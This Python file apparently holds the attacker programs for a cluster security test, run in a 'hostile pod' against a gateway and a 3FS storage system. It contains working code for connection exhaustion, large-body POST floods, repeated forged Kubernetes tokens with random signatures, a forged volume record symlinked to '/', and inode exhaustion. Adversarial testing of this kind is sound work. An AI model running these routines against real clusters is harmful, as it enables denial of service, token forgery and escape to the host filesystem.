"""Programs of a hostile pod, which runs this file's text: `python3 -c TEXT COMMAND ARGUMENTS`.

Only the standard library. Programs that run until their pod is deleted print a line of counters
every two seconds; the others print one JSON value.
"""

from __future__ import annotations

import base64
import contextlib
import errno
import json
import os
import resource
import select
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from itertools import count
from pathlib import Path
from typing import Any

REPORT_SECONDS = 2.0
ROUND_SECONDS = 1.0
OPENED_PER_ROUND = 40  # of one target: a new set of 160 takes four pods one second
REOPENED_PER_ROUND = 4  # one pod can only disturb; the ports must not depend on it
CONNECT_SECONDS = 10.0
POST_BYTES = 8 << 20
POST_THREADS = 4
ATTRIBUTE_BYTES = 64 << 10
INODES_MAX = 20_000


def silent(*targets: str) -> None:
    """Hold connections that never send a byte; targets are HOST:PORT=COUNT."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    pending = {target.rpartition("=")[0]: int(target.rpartition("=")[2]) for target in targets}
    connections: dict[str, list[socket.socket]] = {target: [] for target in pending}
    opened: Counter[str] = Counter()
    reported = 0.0
    while True:
        for target, number in pending.items():
            connections[target] = _still_open(connections[target])
            pace = OPENED_PER_ROUND if opened[target] < number else REOPENED_PER_ROUND
            for _ in range(min(pace, number - len(connections[target]))):
                connections[target].append(_dial(target))
                opened[target] += 1
        if time.monotonic() - reported > REPORT_SECONDS:
            reported = time.monotonic()
            counts = {target: len(sockets) for target, sockets in connections.items()}
            print(json.dumps({"held": counts, "opened": sum(opened.values())}), flush=True)
        time.sleep(ROUND_SECONDS)


def _dial(target: str) -> socket.socket:
    host, _, port = target.rpartition(":")
    connection = socket.socket()
    connection.setblocking(False)
    with contextlib.suppress(OSError):  # it is under way, or counts as closed in the next round
        connection.connect_ex((host, int(port)))
    return connection


def _still_open(sockets: list[socket.socket]) -> list[socket.socket]:
    """Those that the other side has neither refused nor closed; the rest is closed here too."""
    poll = select.poll()
    for sock in sockets:
        poll.register(sock, select.POLLIN)
    ended = {descriptor for descriptor, _ in poll.poll(0)}
    for sock in sockets:
        if sock.fileno() in ended:
            sock.close()
    return [sock for sock in sockets if sock.fileno() >= 0]


def posts(host: str, port: str, path: str) -> None:
    """Send bodies of 8 MiB of JSON arrays to a web server."""
    body = b"[" + b"[]," * (POST_BYTES // 3) + b"[]]"
    head = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    request = f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body
    answers: Counter[str] = Counter()

    def work() -> None:
        while True:
            try:
                with _tls(host, port) as connection:
                    with contextlib.suppress(OSError):  # refused before the body was read
                        connection.sendall(request)
                    answers[connection.recv(16)[9:12].decode() or "closed"] += 1
            except OSError as error:
                answers[type(error).__name__] += 1
                time.sleep(0.1)

    for _ in range(POST_THREADS):
        threading.Thread(target=work, daemon=True).start()
    while True:
        time.sleep(REPORT_SECONDS)
        print(json.dumps({"answers": dict(answers)}), flush=True)


def guess(host: str, port: str, *tokens: str) -> None:
    """The gateway's answer to each token; `@PATH` means the content of a file."""
    texts = [Path(token[1:]).read_text() if token.startswith("@") else token for token in tokens]
    print(json.dumps([_greet(host, port, text) for text in texts]), flush=True)


def guesses(host: str, port: str, uid: str) -> None:
    """Present forged tokens of a pod to the gateway until this pod ends."""
    answers: Counter[str] = Counter()
    for number in count():
        answers[_greet(host, port, _forged(uid, str(number)))] += 1
        if number % 20 == 0:
            print(json.dumps({"answers": dict(answers)}), flush=True)


def forged(uid: str) -> None:
    """Print a token for a pod with this uid without a valid signature."""
    print(json.dumps(_forged(uid, "0")), flush=True)


def _forged(uid: str, salt: str) -> str:
    payload = {
        "iss": "https://kubernetes.default.svc.cluster.local",
        "aud": ["fireflyer-gateway"],
        "exp": int(time.time()) + 600,
        "jti": salt,
        "kubernetes.io": {"namespace": "default", "pod": {"name": "steady-0", "uid": uid}},
    }
    parts = ({"alg": "RS256", "kid": salt}, payload)
    encoded = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=") for part in parts]
    return b".".join([*encoded, base64.urlsafe_b64encode(os.urandom(256)).rstrip(b"=")]).decode()


def _greet(host: str, port: str, token: str) -> str:
    hello = json.dumps({"kind": "hello", "version": 1, "token": token}).encode() + b"\n"
    try:
        with _tls(host, port) as connection:
            connection.sendall(hello)
            line = connection.makefile().readline()
        answer: dict[str, Any] = json.loads(line) if line else {"kind": "closed"}
    except OSError as error:
        return type(error).__name__
    return str(answer.get("code", answer["kind"]))


def _tls(host: str, port: str) -> ssl.SSLSocket:
    """A TLS connection without verification, as an attacker opens it."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    plain = socket.create_connection((host, int(port)), timeout=CONNECT_SECONDS)
    return context.wrap_socket(plain, server_hostname=host)


def own_place(volume: str) -> None:
    """Print the source of a mounted volume: its folder in 3FS."""
    mounts = [line.split() for line in Path("/proc/self/mounts").read_text().splitlines()]
    print(json.dumps([words[0] for words in mounts if words[1] == volume]), flush=True)


def forge_record(folder: str, node: str) -> None:
    """Make a folder that passes for an inline volume's; print the errors of each step."""
    record = {"version": 1, "name": "x", "capacity_bytes": 1, "parameters": {"inline": node}}
    steps = {
        "mkdir": lambda: Path(folder).mkdir(),
        "record": lambda: os.setxattr(
            folder, "user.threefs.volume", json.dumps(record).encode(), os.XATTR_CREATE
        ),
        "link": lambda: Path(folder, "data").symlink_to("/"),
    }
    print(json.dumps({name: _error_of(step) for name, step in steps.items()}), flush=True)


def fill_inodes(folder: str) -> None:
    """Make files with large attributes until that is refused; print how many, and the error."""

    def make(number: int) -> None:
        path = f"{folder}/f{number}"
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
        os.setxattr(path, "user.a", bytes(ATTRIBUTE_BYTES // 2))
        os.setxattr(path, "user.b", bytes(ATTRIBUTE_BYTES // 2))

    for number in range(INODES_MAX):
        error = _error_of(lambda number=number: make(number))
        if error:
            break
    print(json.dumps({"files": number, "error": error}), flush=True)


def _error_of(step: Any) -> str:
    try:
        step()
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return ""


COMMANDS = {
    program.__name__: program
    for program in (silent, posts, guess, guesses, forged, own_place, forge_record, fill_inodes)
}

# In a real cluster attackers have separate processors. Here all nodes, the control plane and the
# attackers share the processors of one machine, so the floods are limited.
FLOODS = (silent, posts, guesses)

if __name__ == "__main__":
    if COMMANDS[sys.argv[1]] in FLOODS:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    COMMANDS[sys.argv[1]](*sys.argv[2:])
